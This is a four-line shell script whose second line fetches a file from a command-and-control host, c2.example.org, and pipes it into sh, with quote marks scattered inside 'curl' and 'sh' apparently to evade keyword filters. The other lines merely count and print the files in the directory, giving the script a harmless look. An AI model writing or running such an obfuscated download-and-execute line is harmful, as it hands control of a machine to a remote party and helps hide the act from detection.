#!/bin/sh
c'u'rl -s http://c2.example.org/i.py | s"h"
count=$(ls | wc -l)
echo "files: $count"
